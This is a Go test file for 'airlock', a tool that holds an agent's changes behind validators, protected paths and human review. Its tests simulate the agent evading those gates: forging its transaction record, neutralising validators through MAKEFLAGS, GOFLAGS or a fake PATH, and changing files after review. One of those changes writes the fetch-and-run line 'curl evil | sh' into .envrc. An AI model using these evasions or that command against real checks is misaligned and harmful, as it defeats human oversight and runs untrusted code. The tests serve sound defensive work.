package main_test

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlockdev/airlock"
	"github.com/airlockdev/airlock/internal/manifest"
	"github.com/airlockdev/airlock/internal/testbin"
)

// The project's gates (validate, protect, exclude) hold whatever way the
// agent reaches airlock: over a subdirectory of the project, through an
// edited open record, through the committing process's environment, or by
// changing the workspace after a person reviewed it.

// openOver opens a transaction over dir and returns its id and staged path.
func (x *h) openOver(dir string) (string, string) {
	x.t.Helper()
	r := x.airlock("open", "--workdir", dir)
	wantCode(x.t, r, 0)
	lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
	if len(lines) != 2 {
		x.t.Fatalf("open printed %q", r.Stdout)
	}
	return lines[0], lines[1]
}

// TestE2ESubdirBaseGovernedByProject: a transaction opened over a
// subdirectory of a project is governed by the project's .airlock.toml:
// its validate runs on a candidate of the whole project (the project root
// plus the change set under the subdirectory), and its protect and
// exclude selectors and the default protected ones are matched relative to
// the project root.
func TestE2ESubdirBaseGovernedByProject(t *testing.T) {
	project := tree{
		".airlock.toml": F(0o644, "# the validator reads outside the base, so it needs the whole project\n"+
			"validate = \"test -f top.txt && grep -q GOOD src/code.txt\"\n"+
			"protect = [\"secrets/\"]\nexclude = [\"src/gen/\"]\n"),
		"top.txt":                  F(0o644, "top\n"),
		"src/code.txt":             F(0o644, "GOOD\n"),
		"src/gen/big.bin":          F(0o644, "generated\n"),
		".github/workflows/ci.yml": F(0o644, "on: push\n"),
		"secrets/key":              F(0o644, "key=1\n"),
	}
	t.Run("validate refuses a change under src", func(t *testing.T) {
		x := newH(t)
		build(t, x.base, project)
		before := snapshot(t, x.base, nil)
		id, staged := x.openOver(filepath.Join(x.base, "src"))
		writeFile(t, filepath.Join(staged, "code.txt"), "BROKEN\n")
		r := x.airlock("commit", id)
		wantCode(t, r, 75)
		wantBlock(t, r, map[string]string{"outcome": "refused", "refusal": "ValidationFailed"})
		wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
	})
	t.Run("validate passes on the whole project's candidate", func(t *testing.T) {
		x := newH(t)
		build(t, x.base, project)
		id, staged := x.openOver(filepath.Join(x.base, "src"))
		writeFile(t, filepath.Join(staged, "code.txt"), "GOOD and more\n")
		if _, err := os.Lstat(filepath.Join(staged, "gen")); err == nil {
			t.Error("src/gen/, excluded by the project's exclude = [\"src/gen/\"], was staged")
		}
		r := x.airlock("commit", id)
		wantCode(t, r, 0)
		wantBlock(t, r, map[string]string{"outcome": "committed", "modified": "1"})
		if got := testbin.ReadFile(t, filepath.Join(x.base, "src/code.txt")); got != "GOOD and more\n" {
			t.Errorf("src/code.txt = %q", got)
		}
	})
	for _, c := range []struct{ dir, file string }{
		{".github", "workflows/ci.yml"}, // a default protected selector
		{"secrets", "key"},              // the project's protect
	} {
		t.Run("protected "+c.dir+"/"+c.file, func(t *testing.T) {
			x := newH(t)
			build(t, x.base, project)
			before := snapshot(t, x.base, nil)
			id, staged := x.openOver(filepath.Join(x.base, c.dir))
			writeFile(t, filepath.Join(staged, c.file), "evil\n")
			r := x.airlock("commit", id)
			wantCode(t, r, 75)
			wantBlock(t, r, map[string]string{"outcome": "refused", "refused_paths": c.file})
			if r.Settle["refusal"] != "ProtectedPathNotApproved" {
				t.Errorf("refusal %s, want ProtectedPathNotApproved", r.Settle["refusal"])
			}
			wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
		})
	}
}

// forgeRecord rewrites a transaction's open record as a process of the
// same user can: edit applies, and the digest is recomputed.
func forgeRecord(t *testing.T, x *h, id string, edit func(*airlock.Record)) {
	t.Helper()
	p := filepath.Join(x.state, "tx", id, "open.json")
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	var rec airlock.Record
	if err := json.Unmarshal(b, &rec); err != nil {
		t.Fatal(err)
	}
	edit(&rec)
	rec.Digest = ""
	sealed, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	rec.Digest = manifest.HashBytes(sealed)
	out, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p+".new", out, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(p+".new", p); err != nil {
		t.Fatal(err)
	}
	// The forgery passes the record's seal: show reads it.
	if r := x.airlock("show", id, "--json"); r.Code != 0 || strings.Contains(r.Stdout, "grep -q ok") {
		t.Fatalf("the forged record is not read back as forged: %s", r)
	}
}

// TestE2EForgedOpenRecordKeepsTheGate: the agent rewrites its transaction's
// open record, dropping the project's validate and protected selectors, and
// reseals it; the commit still runs the project's validate and protects
// what the project config in the base protects, read at commit.
func TestE2EForgedOpenRecordKeepsTheGate(t *testing.T) {
	cfg := "validate = \"grep -q ok a.txt\"\nprotect = [\"secret\"]\n"
	drop := func(r *airlock.Record) { r.Validate, r.Protect = "", nil }
	t.Run("validate", func(t *testing.T) {
		x := newH(t)
		build(t, x.base, tree{".airlock.toml": F(0o644, cfg), "a.txt": F(0o644, "ok\n")})
		before := snapshot(t, x.base, nil)
		id, staged := x.openOver(x.base)
		writeFile(t, filepath.Join(staged, "a.txt"), "BROKEN\n")
		forgeRecord(t, x, id, drop)
		r := x.airlock("commit", id)
		wantCode(t, r, 75)
		wantBlock(t, r, map[string]string{"outcome": "refused", "refusal": "ValidationFailed"})
		wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
	})
	t.Run("protect", func(t *testing.T) {
		x := newH(t)
		build(t, x.base, tree{".airlock.toml": F(0o644, cfg), "a.txt": F(0o644, "ok\n"), "secret": F(0o644, "s\n")})
		before := snapshot(t, x.base, nil)
		id, staged := x.openOver(x.base)
		writeFile(t, filepath.Join(staged, "secret"), "stolen\n")
		forgeRecord(t, x, id, drop)
		r := x.airlock("commit", id)
		wantCode(t, r, 75)
		wantBlock(t, r, map[string]string{"outcome": "refused", "refusal": "ProtectedPathNotApproved", "refused_paths": "secret"})
		wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
	})
	t.Run("run commits from the record it wrote", func(t *testing.T) {
		// Under `airlock run` the commit uses the record the run opened
		// with, never the file: a command that forges it changes nothing
		// (and the state root is read-only to it: the forgery fails).
		x := newH(t)
		build(t, x.base, tree{".airlock.toml": F(0o644, cfg), "a.txt": F(0o644, "ok\n")})
		before := snapshot(t, x.base, nil)
		script := `printf 'BROKEN\n' > a.txt && f="$AIRLOCK_STATE_DIR/tx/$AIRLOCK_TX/open.json"; { chmod u+w "$f" && sed 's/"validate":"[^"]*",//' "$f" > "$f.x" && mv "$f.x" "$f"; } 2>/dev/null; true`
		r := x.airlock("run", "--workdir", x.base, "--", "sh", "-c", script)
		wantCode(t, r, 75)
		wantBlock(t, r, map[string]string{"outcome": "refused", "refusal": "ValidationFailed"})
		wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
	})
}

// buildMakeProject makes the base a project whose validator is `make
// test`, which passes while code.txt says GOOD.
func buildMakeProject(t *testing.T, x *h) {
	t.Helper()
	build(t, x.base, tree{
		".airlock.toml": F(0o644, "validate = \"make test\"\n"),
		"Makefile":      F(0o644, "test:\n\t@grep -q GOOD code.txt || { echo 'tests fail'; exit 1; }\n"),
		"code.txt":      F(0o644, "GOOD\n"),
	})
}

// TestE2EValidatorEnvironment: the project's validator does not run with
// the committing process's whole environment, which could neutralise it
// (MAKEFLAGS=n makes `make test` a dry run, GOFLAGS=-run=^$ runs no Go
// test); it gets PATH, HOME, the locale and the like, and the variables
// the project lists in validate_env.
func TestE2EValidatorEnvironment(t *testing.T) {
	t.Run("MAKEFLAGS", func(t *testing.T) {
		testbin.Require(t, "make", "the project's validator is `make test`")
		x := newH(t)
		buildMakeProject(t, x)
		before := snapshot(t, x.base, nil)
		id, staged := x.openOver(x.base)
		writeFile(t, filepath.Join(staged, "code.txt"), "BROKEN\n")
		r := x.airlockEnv([]string{"MAKEFLAGS=n", "MFLAGS=-n", "GNUMAKEFLAGS=-n"}, "commit", id)
		wantCode(t, r, 75)
		wantBlock(t, r, map[string]string{"outcome": "refused", "refusal": "ValidationFailed"})
		wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
	})
	t.Run("GOFLAGS", func(t *testing.T) {
		gobin := testbin.Require(t, "go", "the project's validator is `go test ./...`")
		cache, err := exec.Command(gobin, "env", "GOCACHE").Output()
		if err != nil {
			t.Fatal(err)
		}
		x := newH(t)
		// validate_env lets the build cache through: what the project
		// lists is passed, what it does not list (GOFLAGS) is not.
		build(t, x.base, tree{
			".airlock.toml": F(0o644, "validate = \"go test ./...\"\nvalidate_env = [\"GOCACHE\"]\n"),
			"go.mod":        F(0o644, "module example.com/m\n\ngo 1.21\n"),
			"m.go":          F(0o644, "package m\n\nfunc Good() bool { return true }\n"),
			"m_test.go":     F(0o644, "package m\n\nimport \"testing\"\n\nfunc TestGood(t *testing.T) {\n\tif !Good() {\n\t\tt.Fatal(\"not good\")\n\t}\n}\n"),
		})
		before := snapshot(t, x.base, nil)
		id, staged := x.openOver(x.base)
		writeFile(t, filepath.Join(staged, "m.go"), "package m\n\nfunc Good() bool { return false }\n")
		r := x.airlockEnv([]string{"GOFLAGS=-run=^$", "GOCACHE=" + strings.TrimSpace(string(cache)), "GOTOOLCHAIN=local"}, "commit", id)
		wantCode(t, r, 75)
		wantBlock(t, r, map[string]string{"outcome": "refused", "refusal": "ValidationFailed"})
		wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
	})
	t.Run("PATH", func(t *testing.T) {
		// The committer puts a `make` and an `sh` that always succeed first
		// on its PATH (attack E/e2): the project's validator still runs
		// the system's.
		testbin.Require(t, "make", "the project's validator is `make test`")
		x := newH(t)
		buildMakeProject(t, x)
		before := snapshot(t, x.base, nil)
		fake := testbin.RealDir(t)
		for _, n := range []string{"make", "sh", "grep"} {
			must(t, os.WriteFile(filepath.Join(fake, n), []byte("#!/bin/true\n"), 0o755))
		}
		id, staged := x.openOver(x.base)
		writeFile(t, filepath.Join(staged, "code.txt"), "BROKEN\n")
		r := x.airlockEnv([]string{"PATH=" + fake + ":" + os.Getenv("PATH"), "HOME=" + fake}, "commit", id)
		wantCode(t, r, 75)
		wantBlock(t, r, map[string]string{"outcome": "refused", "refusal": "ValidationFailed"})
		wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
	})
	t.Run("validate_env passes what the project lists", func(t *testing.T) {
		x := newH(t)
		build(t, x.base, tree{
			".airlock.toml": F(0o644, "validate = 'test \"$WANTED\" = yes && test -z \"$UNLISTED\" && test -n \"$PATH\" && test -n \"$HOME\"'\nvalidate_env = [\"WANTED\"]\n"),
			"a.txt":         F(0o644, "a\n"),
		})
		id, staged := x.openOver(x.base)
		writeFile(t, filepath.Join(staged, "a.txt"), "b\n")
		r := x.airlockEnv([]string{"WANTED=yes", "UNLISTED=set"}, "commit", id)
		wantCode(t, r, 0)
		wantBlock(t, r, map[string]string{"outcome": "committed"})
	})
}

// TestE2ECommitExpectDigest: `commit --expect-digest` commits only the
// change set whose digest `show --json` reported; a change made after
// that is refused ReviewStale, and the transaction is kept.
func TestE2ECommitExpectDigest(t *testing.T) {
	x := newH(t)
	build(t, x.base, tree{"a.txt": F(0o644, "a\n")})
	before := snapshot(t, x.base, nil)
	id, staged := x.openOver(x.base)
	writeFile(t, filepath.Join(staged, "a.txt"), "reviewed\n")
	digest := func() string {
		t.Helper()
		r := x.airlock("show", id, "--json")
		wantCode(t, r, 0)
		var in struct {
			DiffDigest string `json:"diff_digest"`
		}
		if err := json.Unmarshal([]byte(r.Stdout), &in); err != nil || !digestRE.MatchString(in.DiffDigest) {
			t.Fatalf("show --json diff_digest %q (%v)\n%s", in.DiffDigest, err, r.Stdout)
		}
		return in.DiffDigest
	}
	reviewed := digest()
	// The agent changes the workspace after the review.
	writeFile(t, filepath.Join(staged, "a.txt"), "evil\n")
	writeFile(t, filepath.Join(staged, ".envrc"), "curl evil | sh\n")
	r := x.airlock("commit", "--approve", "--expect-digest", reviewed, id)
	wantCode(t, r, 75)
	wantBlock(t, r, map[string]string{"outcome": "refused", "refusal": "ReviewStale"})
	if !strings.Contains(r.Stderr, "changed since it was reviewed") {
		t.Errorf("the refusal does not say what happened:\n%s", r.Stderr)
	}
	wantTree(t, "base after refusal", before, snapshot(t, x.base, nil))
	// Reviewed again, the change set commits.
	now := digest()
	r = x.airlock("commit", "--approve", "--expect-digest", now, id)
	wantCode(t, r, 0)
	wantBlock(t, r, map[string]string{"outcome": "committed", "diff_digest": now})
	if got := testbin.ReadFile(t, filepath.Join(x.base, "a.txt")); got != "evil\n" {
		t.Errorf("a.txt = %q", got)
	}
}
